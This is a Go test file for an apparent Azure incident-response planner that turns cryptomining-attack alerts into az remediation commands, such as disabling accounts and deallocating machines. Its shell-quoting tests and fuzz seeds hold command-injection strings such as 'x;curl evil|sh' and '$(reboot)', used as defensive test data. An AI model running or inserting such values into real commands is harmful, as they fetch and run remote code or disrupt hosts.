package respond

import (
	"os/exec"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/mamori-sec/mamori/internal/alert"
	"github.com/mamori-sec/mamori/internal/incident"
)

const sub = "/subscriptions/0b1c2d3e-0000-4000-8000-000000000001"

// attack is one incident's alerts, as a hunt of a GPU chain gives them:
// a user named by UPN in one log and by object id in Defender's, a guest,
// a pipeline's service principal, a refused create and a created one.
func attack() (*incident.Incident, map[string]*alert.Alert) {
	t0 := time.Date(2026, 3, 17, 3, 0, 0, 0, time.UTC)
	as := []alert.Alert{
		{ID: "a1", Stage: "escalation", Principal: "kim@contoso.example", PrincipalIDs: []string{"kim@contoso.example", "11111111-1111-4111-8111-111111111111"},
			Resources: []string{"/providers/microsoft.authorization"}, Evidence: []alert.Evidence{{Operation: "MICROSOFT.AUTHORIZATION/ELEVATEACCESS/ACTION"}}},
		{ID: "a2", Stage: "escalation", Principal: "kim@contoso.example", PrincipalIDs: []string{"kim@contoso.example"},
			Resources: []string{sub + "/providers/microsoft.authorization/roleassignments/ra-1"}, Evidence: []alert.Evidence{{Operation: "microsoft.authorization/roleassignments/write"}}},
		{ID: "a3", Stage: "initial_access", Principal: "eve_x.example#EXT#@contoso.example",
			PrincipalIDs: []string{"eve_x.example#ext#@contoso.example", "22222222-2222-4222-8222-222222222222"},
			IPs:          []string{"20.42.65.90", "10.0.0.4", "198.51.100.7"}, OwnedIPs: []string{"198.51.100.7"}},
		{ID: "a4", Stage: "quota", Principal: "eve_x.example#EXT#@contoso.example", PrincipalIDs: []string{"22222222-2222-4222-8222-222222222222"},
			Resources: []string{sub + "/providers/microsoft.compute/locations/eastus/providers/microsoft.quota/quotas/standardNCASv3_T4Family",
				sub + "/providers/Microsoft.Capacity/resourceProviders/Microsoft.Compute/locations/westus3/serviceLimits/standardNDSv2Family"}},
		{ID: "a5", Stage: "deployment", Principal: "eve_x.example#EXT#@contoso.example", PrincipalIDs: []string{"eve_x.example#ext#@contoso.example"},
			Summary: "asked for …/probe-0; Azure refused it on quota, no machine ran", Resources: []string{sub + "/resourcegroups/g/providers/microsoft.compute/virtualmachinescalesets/probe-0"}},
		{ID: "a6", Stage: "deployment", Principal: "eve_x.example#EXT#@contoso.example", PrincipalIDs: []string{"eve_x.example#ext#@contoso.example"},
			Compute: []alert.Compute{{Service: "vmss", Count: 20, Resource: sub + "/resourcegroups/g/providers/microsoft.compute/virtualmachinescalesets/train-0"},
				{Service: "vmss", Count: 0, Resource: sub + "/resourcegroups/g/providers/microsoft.compute/virtualmachinescalesets/probe-0"}}},
		{ID: "a7", Stage: "deployment", Principal: "33333333-3333-4333-8333-333333333333", PrincipalName: "nightly-pipeline",
			PrincipalIDs: []string{"33333333-3333-4333-8333-333333333333", "44444444-4444-4444-8444-444444444444"},
			Compute: []alert.Compute{{Service: "aml", Count: 4, Resource: sub + "/resourceGroups/ml/providers/Microsoft.MachineLearningServices/workspaces/w/jobs/sweep-1"},
				{Service: "aci", Count: 1, Resource: sub + "/resourcegroups/aci/providers/microsoft.containerinstance/containergroups/worker-0"}}},
		// Everyone's compute of the hour: a colleague's training run too.
		{ID: "a11", Stage: "deployment", WholeTenant: true, PrincipalIDs: []string{"kim@contoso.example", "ds@contoso.example"},
			Compute: []alert.Compute{{Service: "vmss", Count: 8, Resource: sub + "/resourcegroups/ml/providers/microsoft.compute/virtualmachinescalesets/train-nd96"}}},
		{ID: "a8", Stage: "mining", Hosts: []string{"train-0000003"}, IPs: []string{"10.1.0.4", "51.15.65.182"},
			Resources: []string{sub + "/resourcegroups/g/providers/microsoft.compute/virtualmachinescalesets/train-0/virtualmachines/3"}},
		{ID: "a9", Stage: "persistence", Principal: "eve_x.example#EXT#@contoso.example", PrincipalIDs: []string{"eve_x.example#ext#@contoso.example"}, Subscription: "0b1c2d3e-0000-4000-8000-000000000001",
			Evidence: []alert.Evidence{{Operation: "microsoft.subscription/changetenantrequest/write"}}},
		// Suppressed: accepted activity, nothing to act on.
		{ID: "a10", Stage: "escalation", Principal: "ops@contoso.example", Suppressed: &alert.Suppression{ID: "s"},
			Resources: []string{sub + "/providers/microsoft.authorization/roleassignments/ra-ops"}, Evidence: []alert.Evidence{{Operation: "microsoft.authorization/roleassignments/write"}}},
	}
	in := &incident.Incident{ID: "inc-1", Tenant: "4f1c2b7e-9a3d-4c55-8e21-6b0d7a9c3e10", Severity: alert.Critical}
	byID := map[string]*alert.Alert{}
	for i := range as {
		as[i].Time = t0.Add(time.Duration(i) * time.Minute)
		byID[as[i].ID] = &as[i]
		in.Timeline = append(in.Timeline, incident.Entry{Alert: as[i].ID, Time: as[i].Time})
	}
	return in, byID
}

func stepOf(t *testing.T, steps []Step, action string) Step {
	t.Helper()
	for _, s := range steps {
		if s.Action == action {
			return s
		}
	}
	t.Fatalf("no %s step in %+v", action, steps)
	return Step{}
}

func TestPlanActsOnWhatTheAlertsName(t *testing.T) {
	in, byID := attack()
	steps := Plan(in, byID, incident.Names{"33333333-3333-4333-8333-333333333333": "nightly-pipeline"})
	var actions []string
	for _, s := range steps {
		actions = append(actions, s.Action)
	}
	want := []string{"evidence", "accounts", "root_access", "role_assignments", "compute", "quota", "subscription", "network", "posture"}
	if !slices.Equal(actions, want) {
		t.Errorf("steps %v, want %v (machines: every machine that mined is one the attack created)", actions, want)
	}

	acc := stepOf(t, steps, "accounts")
	if want := []string{"kim@contoso.example", "eve_x.example#EXT#@contoso.example (a guest)", "nightly-pipeline (33333333-3333-4333-8333-333333333333)"}; !slices.Equal(acc.Targets, want) {
		t.Errorf("accounts %q, want %q (a user named by UPN and object id is one account; ops' suppressed alert acts on no one)", acc.Targets, want)
	}
	for _, c := range []string{
		"az rest --method post --url https://graph.microsoft.com/v1.0/users/11111111-1111-4111-8111-111111111111/revokeSignInSessions",
		"az ad user update --id 22222222-2222-4222-8222-222222222222 --account-enabled false",
		"az ad sp update --id 33333333-3333-4333-8333-333333333333 --set accountEnabled=false",
	} {
		if !slices.Contains(acc.Commands, c) {
			t.Errorf("accounts lack %q:\n%s", c, strings.Join(acc.Commands, "\n"))
		}
	}
	if root := stepOf(t, steps, "root_access"); !slices.Equal(root.Commands, []string{"az role assignment delete --assignee 11111111-1111-4111-8111-111111111111 --role 'User Access Administrator' --scope /"}) {
		t.Errorf("root access: %q", root.Commands)
	}
	if ra := stepOf(t, steps, "role_assignments"); !slices.Equal(ra.Targets, []string{sub + "/providers/microsoft.authorization/roleassignments/ra-1"}) {
		t.Errorf("role assignments %q: the suppressed one is accepted", ra.Targets)
	}
	comp := stepOf(t, steps, "compute")
	wantCmds := []string{
		"az vmss deallocate --ids " + sub + "/resourcegroups/g/providers/microsoft.compute/virtualmachinescalesets/train-0",
		"az ml job cancel --resource-group ml --workspace-name w --name sweep-1",
		"az container stop --ids " + sub + "/resourcegroups/aci/providers/microsoft.containerinstance/containergroups/worker-0",
	}
	if !slices.Equal(comp.Commands, wantCmds) || comp.Title != "Stop the compute it ran (25 instances)" {
		t.Errorf("compute %q\n%q: the refused probe ran nothing", comp.Title, comp.Commands)
	}
	q := stepOf(t, steps, "quota")
	if want := []string{"standardNCASv3_T4Family in eastus (subscription 0b1c2d3e-0000-4000-8000-000000000001)", "standardNDSv2Family in westus3 (subscription 0b1c2d3e-0000-4000-8000-000000000001)"}; !slices.Equal(q.Targets, want) {
		t.Errorf("quota targets %q", q.Targets)
	}
	if !slices.Equal(q.Commands, []string{"az quota show --resource-name standardNCASv3_T4Family --scope " + sub + "/providers/microsoft.compute/locations/eastus",
		// The Capacity API's limit, named as the Quota API names it.
		"az quota show --resource-name standardNDSv2Family --scope " + sub + "/providers/Microsoft.Compute/locations/westus3"}) {
		t.Errorf("quota commands %q", q.Commands)
	}
	if s := stepOf(t, steps, "subscription"); !slices.Equal(s.Targets, []string{"0b1c2d3e-0000-4000-8000-000000000001"}) {
		t.Errorf("subscription %q", s.Targets)
	}
	if n := stepOf(t, steps, "network"); !slices.Equal(n.Targets, []string{"51.15.65.182 (mining pool)", "20.42.65.90 (sign-in)"}) {
		t.Errorf("network %q: private and the tenant's own addresses are not blocked", n.Targets)
	}
	if p := stepOf(t, steps, "posture"); !slices.Equal(p.Commands, []string{"mamori posture --tenant 4f1c2b7e-9a3d-4c55-8e21-6b0d7a9c3e10"}) || !strings.Contains(p.Why, "transfer_policy") {
		t.Errorf("posture %+v", p)
	}
}

func TestMachinesNotCreatedInTheAttackAreIsolated(t *testing.T) {
	in, byID := attack()
	// The miner runs on a machine the tenant had, and on one named only
	// by its host name.
	byID["a8"].Resources = []string{sub + "/resourceGroups/prod/providers/Microsoft.Compute/virtualMachineScaleSets/web/virtualMachines/7",
		sub + "/resourcegroups/prod/providers/microsoft.compute/virtualmachines/db-1"}
	byID["a8"].Hosts = []string{"web000007", "db-1"}
	m := stepOf(t, Plan(in, byID, nil), "machines")
	if !slices.Equal(m.Targets, []string{"web000007", "db-1"}) || !slices.Equal(m.Commands, []string{
		"az vmss deallocate --resource-group prod --name web --instance-ids 7",
		"az vm deallocate --ids " + sub + "/resourcegroups/prod/providers/microsoft.compute/virtualmachines/db-1"}) {
		t.Errorf("machines %+v", m)
	}
	ev := stepOf(t, Plan(in, byID, nil), "evidence")
	if !strings.Contains(ev.Why, "web000007, db-1") {
		t.Errorf("the evidence step does not say which disks to keep: %s", ev.Why)
	}
}

func TestALoneSignInIsLookedAt(t *testing.T) {
	in := &incident.Incident{ID: "inc-2", Severity: alert.High, Timeline: []incident.Entry{{Alert: "x"}}}
	byID := map[string]*alert.Alert{"x": {ID: "x", Stage: "initial_access", Principal: "kim@contoso.example", IPs: []string{"20.42.65.90"}}}
	var actions []string
	for _, s := range Plan(in, byID, nil) {
		actions = append(actions, s.Action)
	}
	if want := []string{"evidence", "accounts", "network", "posture"}; !slices.Equal(actions, want) {
		t.Errorf("steps %v, want %v", actions, want)
	}
}

// Names an attacker chose reach a command as one word of the shell,
// whatever they hold: sh itself reads them back.
func TestQuoteIsOneShellWord(t *testing.T) {
	sh, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no sh here")
	}
	for _, s := range []string{"", "plain-name_1.2", "x;curl evil|sh", "$(reboot)", "`id`", "it's", "'", "a'b'c", "two words",
		"eve#EXT#@contoso.example", "new\nline", "back\\slash", "*", "~root", "{a,b}", "\x1b]8;;x", "é∂🙂", "a&&b", "!!", "-rf"} {
		out, err := exec.Command(sh, "-c", "printf %s "+Quote(s)).Output()
		if err != nil || string(out) != s {
			t.Errorf("Quote(%q) = %s: sh read %q (%v)", s, Quote(s), out, err)
		}
	}
}

// FuzzQuote checks Quote as a POSIX shell reads a word: bare, it holds
// nothing special; quoted, undoing the quoting gives the string back.
func FuzzQuote(f *testing.F) {
	for _, s := range []string{"", "a", "it's", "x;y", "'", "''", "a'\\''b", "$HOME", "\n"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		q := Quote(s)
		if got, ok := unquote(q); !ok || got != s {
			t.Errorf("Quote(%q) = %s, read back as %q (%v)", s, q, got, ok)
		}
	})
}

// unquote reads one word as a POSIX shell does, for the quoting Quote
// writes: characters outside quotes must be ones no shell treats
// specially, single quotes hold anything but themselves, and \' outside
// them is a quote.
func unquote(w string) (string, bool) {
	var b strings.Builder
	for i := 0; i < len(w); {
		switch c := w[i]; {
		case c == '\'':
			j := strings.IndexByte(w[i+1:], '\'')
			if j < 0 {
				return "", false
			}
			b.WriteString(w[i+1 : i+1+j])
			i += j + 2
		case c == '\\' && i+1 < len(w) && w[i+1] == '\'':
			b.WriteByte('\'')
			i += 2
		case 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || '0' <= c && c <= '9' || strings.IndexByte("@%+=:,./_-", c) >= 0:
			b.WriteByte(c)
			i++
		default:
			return "", false
		}
	}
	return b.String(), w != ""
}

// FuzzPlan: whatever an alert's records gave its principal, resources,
// addresses and operations, a plan is made without a panic, and each of
// its commands is mamori's or az's, every word of it as Quote writes one
// (or the || between two commands).
func FuzzPlan(f *testing.F) {
	f.Add("kim@contoso.example", sub+"/providers/microsoft.authorization/roleassignments/ra-1", "microsoft.authorization/roleassignments/write", "20.42.65.90", "mining")
	f.Add("33333333-3333-4333-8333-333333333333", sub+"/providers/microsoft.compute/locations/eastus/providers/microsoft.quota/quotas/f", "microsoft.authorization/elevateaccess/action", "10.0.0.1", "quota")
	f.Add("x'y", "/virtualmachinescalesets//virtualmachines/", "microsoft.subscription/changetenantrequest/write", "::1", "initial_access")
	f.Add("", "/servicelimits/", "", "", "")
	f.Fuzz(func(t *testing.T, principal, resource, op, ip, stage string) {
		a := &alert.Alert{ID: "a", Stage: stage, Principal: principal, PrincipalIDs: []string{principal, resource}, Subscription: resource,
			Resources: []string{resource}, IPs: []string{ip}, Hosts: []string{principal}, Evidence: []alert.Evidence{{Operation: op}},
			Compute: []alert.Compute{{Count: 1, Resource: resource}}}
		in := &incident.Incident{ID: "inc-1", Tenant: principal, Severity: alert.Critical, Timeline: []incident.Entry{{Alert: "a"}}}
		for _, s := range Plan(in, map[string]*alert.Alert{"a": a}, incident.Names{principal: resource}) {
			if s.Action == "" || s.Title == "" {
				t.Errorf("step %+v", s)
			}
			for _, c := range s.Commands {
				if !strings.HasPrefix(c, "az ") && !strings.HasPrefix(c, "mamori ") {
					t.Errorf("command %q", c)
				}
				for _, w := range words(c) {
					if _, ok := unquote(w); !ok && w != "||" {
						t.Errorf("command %q: %q is not one word", c, w)
					}
				}
			}
		}
	})
}

// words splits a command line at the spaces outside single quotes.
func words(c string) []string {
	var out []string
	start, quoted := 0, false
	for i := 0; i < len(c); i++ {
		switch c[i] {
		case '\\':
			if !quoted {
				i++ // an escaped character, outside quotes
			}
		case '\'':
			quoted = !quoted
		case ' ':
			if !quoted {
				out = append(out, c[start:i])
				start = i + 1
			}
		}
	}
	return append(out, c[start:])
}

// A machine the attack woke is a scale set's instance: it is stopped as
// one, not deleted; a subscription it created is to be cancelled.
func TestStartedMachinesAndCreatedSubscriptions(t *testing.T) {
	in := &incident.Incident{ID: "inc-3", Severity: alert.High, Timeline: []incident.Entry{{Alert: "a"}, {Alert: "b"}}}
	byID := map[string]*alert.Alert{
		"a": {ID: "a", Stage: "deployment", Principal: "kim@contoso.example",
			Compute: []alert.Compute{{Service: "vmss", Count: 1, Resource: sub + "/resourceGroups/ml/providers/Microsoft.Compute/virtualMachineScaleSets/train-nd96/virtualMachines/4"}}},
		"b": {ID: "b", Stage: "persistence", Principal: "kim@contoso.example", Resources: []string{"/providers/microsoft.subscription/aliases/poc-kim"},
			Evidence: []alert.Evidence{{Operation: "Microsoft.Subscription/aliases/write"}}},
	}
	steps := Plan(in, byID, nil)
	if c := stepOf(t, steps, "compute"); !slices.Equal(c.Commands, []string{"az vmss deallocate --resource-group ml --name train-nd96 --instance-ids 4"}) {
		t.Errorf("compute %q", c.Commands)
	}
	if s := stepOf(t, steps, "new_subscriptions"); !slices.Equal(s.Commands, []string{"az account alias show --name poc-kim"}) || s.Title != "Cancel 1 subscription the attack created" {
		t.Errorf("new subscriptions %+v", s)
	}
}

// An account named by an object id alone (Defender's alerts name the
// attacked user so) may be a user or a service principal: each command
// falls back from the one kind to the other.
func TestAnAccountOfUnknownKind(t *testing.T) {
	const id = "55555555-5555-4555-8555-555555555555"
	in := &incident.Incident{ID: "inc-4", Severity: alert.High, Timeline: []incident.Entry{{Alert: "a"}}}
	byID := map[string]*alert.Alert{"a": {ID: "a", Stage: "deployment", Principal: id, PrincipalIDs: []string{id}}}
	acc := stepOf(t, Plan(in, byID, nil), "accounts")
	want := []string{
		"az rest --method post --url https://graph.microsoft.com/v1.0/users/" + id + "/revokeSignInSessions || az ad sp update --id " + id + " --set accountEnabled=false",
		"az ad user update --id " + id + " --account-enabled false || az ad sp credential list --id " + id,
	}
	if !slices.Equal(acc.Commands, want) {
		t.Errorf("commands\n%s", strings.Join(acc.Commands, "\n"))
	}
	// Named, it is a service principal.
	if acc := stepOf(t, Plan(in, byID, incident.Names{id: "nightly"}), "accounts"); !strings.HasPrefix(acc.Commands[0], "az ad sp update --id "+id) {
		t.Errorf("a named principal: %q", acc.Commands)
	}
}
